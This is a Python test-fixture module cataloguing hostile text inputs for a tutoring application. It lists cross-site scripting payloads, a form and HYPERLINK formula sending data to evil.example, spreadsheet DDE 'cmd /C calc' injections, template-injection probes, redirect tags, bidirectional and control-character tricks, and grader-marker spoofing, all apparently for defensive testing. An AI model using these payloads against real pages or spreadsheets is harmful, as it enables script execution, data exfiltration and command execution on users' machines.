"""What somebody could send to a tutor to do harm: a catalogue, a line or a few each.

`TEXTS` are words for a reflection, a plan or a name; whoever shows such words tests with them.
"""

from __future__ import annotations

CANARY = "window.hostile"
"""What scripts in `TEXTS` set: a page on which it is defined has run one of them."""

_SHOT = f"{CANARY}=1"

TEXTS: dict[str, str] = {
    "script": f"<script>{_SHOT}</script>",
    "script in two cases": f"<ScRiPt>{_SHOT}</sCrIpT >",
    "image with a handler": f"<img src=x onerror='{_SHOT}'>",
    "svg with a handler": f"<svg onload={_SHOT}><circle r=9></svg>",
    "details with a handler": f"<details open ontoggle={_SHOT}>x</details>",
    "frame": f'<iframe srcdoc="<script>parent.{_SHOT}</script>"></iframe>',
    "form": "<form action=https://evil.example/><input name=a autofocus><button>Go</button></form>",
    "link of a script": f"<a href='javascript:{_SHOT}'>Read more</a>",
    "markdown link of a script": f"[Read more](javascript:{_SHOT})",
    "markdown picture": "![x](https://evil.example/pixel.png)",
    "markdown html": f"**bold** <b onclick={_SHOT}>x</b>\n\n# Heading\n\n```\ncode\n```",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "base and refresh": "<base href=//evil.example/><meta http-equiv=refresh content=0>",
    "end of a text area": f"</textarea></pre></script><script>{_SHOT}</script>",
    "end of a comment": f"--><script>{_SHOT}</script><!--",
    "attribute's end": f'"\' onmouseover={_SHOT} x="',
    "entities": f"&lt;script&gt;{_SHOT}&lt;/script&gt; &#60;img src=x onerror={_SHOT}&#62;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "mathematics": r"$\href{javascript:window.hostile=1}{x}$ \(\unicode{x1F600}\) $$\require{a}$$",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Read")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line's end": "x\r\n=1+1\n-1+1",
    "turned text": "abc \u202e gpj.exe \u2066 x \u2069 \u200b\u200d\ufeff",
    "control characters": "a\x00b\x07c\x1b[31md\x1b]0;title\x07e\x7f\x9b2J",
    "half a pair": "a\ud800b\udfff",
    "no characters": "\ufffe\uffff\U0010ffff",
    "a tower of accents": "a" + "\u0301" * 300,
    "one word without an end": "x" * 10_000,
    "markers of nbgrader": "### BEGIN SOLUTION\n### END HIDDEN TESTS\n### BEGIN MARK SCHEME",
}
